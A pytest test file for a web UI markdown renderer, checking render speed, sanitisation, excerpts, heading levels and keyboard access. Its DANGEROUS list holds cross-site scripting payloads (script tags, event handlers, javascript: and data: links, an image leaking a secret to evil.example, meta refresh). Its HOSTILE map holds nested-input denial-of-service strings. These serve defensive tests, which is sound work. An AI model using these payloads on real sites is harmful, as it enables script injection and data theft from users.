import time

import pytest

from webui import markdown

SECONDS = 2.0

HOSTILE = {
    "open brackets": "[" * 50_000,
    "open images": "![" * 25_000,
    "open declarations": "<![" * 17_000,
    "a thousand nested lists": "\n".join("  " * depth + "- x" for depth in range(1_000)),
    "a thousand list markers in a line": "- " * 1_000 + "x",
    "a thousand nested quotes": ">" * 1_000 + " x",
    "brackets below the limit": "[" * 1_900,
    "emphasis below the limit": "*a " * 3_900,
    "lists below the limit": "\n".join("  " * min(depth, 38) + "- x" for depth in range(2_000)),
    "quotes below the limit": ("> " * 39 + "x\n") * 3_000,
}
DANGEROUS = [
    "<script>beacon()</script>",
    "<img src=x onerror=beacon()>",
    "[a](javascript:beacon())",
    "[a](JaVaScRiPt:beacon())",
    "[a](data:text/html,<script>beacon()</script>)",
    "[a](vbscript:beacon())",
    "![x](https://evil.example/?q=secret)",
    "<a hx-get=/t/1/cancel hx-trigger=load>x</a>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<form id="main"><input name="x"></form>',
    "<svg onload=beacon()>",
    "<style>*{background:url(//evil.example)}</style>",
    '[a](/x "onmouseover=beacon()")',
]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_text_takes_long(text: str) -> None:
    begun = time.process_time()
    html = markdown.render(text)
    assert time.process_time() - begun < SECONDS
    assert html


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_in_a_text_can_act(text: str) -> None:
    html = markdown.render(text).lower()
    for active in ("<script", "<img", "<svg", "<style", "<meta", "<form", "<input", 'href="javascript', 'href="data', 'href="vbscript'):
        assert active not in html
    assert "<a hx-" not in html


def test_deep_nesting_loses_no_text() -> None:
    text = "> " * 39 + "treasure"
    assert "treasure" in markdown.render(text)


def test_too_deep_nesting_is_shown_as_plain_text() -> None:
    assert markdown.render("> " * 41 + "treasure") == markdown.as_plain("> " * 41 + "treasure")


def test_links_to_the_web_stay_and_do_not_vouch() -> None:
    html = markdown.render("[docs](https://example.org/a)")
    assert '<a href="https://example.org/a" rel="noopener noreferrer nofollow">docs</a>' in html


def test_headings_go_below_those_of_the_page() -> None:
    assert markdown.render("# One\n\n## Two") == "<h3>One</h3>\n<h4>Two</h4>\n"


def test_tables_and_code_can_be_scrolled_with_the_keyboard() -> None:
    html = markdown.render("```\ncode\n```\n\n|a|\n|-|\n|b|\n")
    assert '<pre tabindex="0">' in html
    assert '<table tabindex="0">' in html


def test_one_line_has_no_blocks() -> None:
    assert markdown.render_line("`pytest` *passes*") == "<code>pytest</code> <em>passes</em>"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# Done\n\nThe `parser` reads **ev**ery\nline.", "Done The parser reads every line."),
        ("- [x] see [the notes](https://example.org/a_b)\n- 2 * 3 * 4\n\n```py\nx = `1`\n```", "see the notes 2 * 3 * 4 x = `1`"),
        ("| a | b |\n|---|---|\n| 1 | <b> |", "a b 1 <b>"),
        ("Ask @jared about #12 &amp; snake_case_names", "Ask @jared about #12 & snake_case_names"),
        ("", ""),
        ("word " * 100, "word word word word word word word word…"),
        ("[" * 50_000, "[" * 39 + "…"),
    ],
)
def test_an_excerpt_is_the_words_without_their_markup(text: str, shown: str) -> None:
    assert markdown.excerpt(text, 40 if len(text) > 200 else 100) == shown


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_excerpt_takes_long(text: str) -> None:
    begun = time.process_time()
    assert len(markdown.excerpt(text, 200)) <= 200
    assert time.process_time() - begun < SECONDS / 10
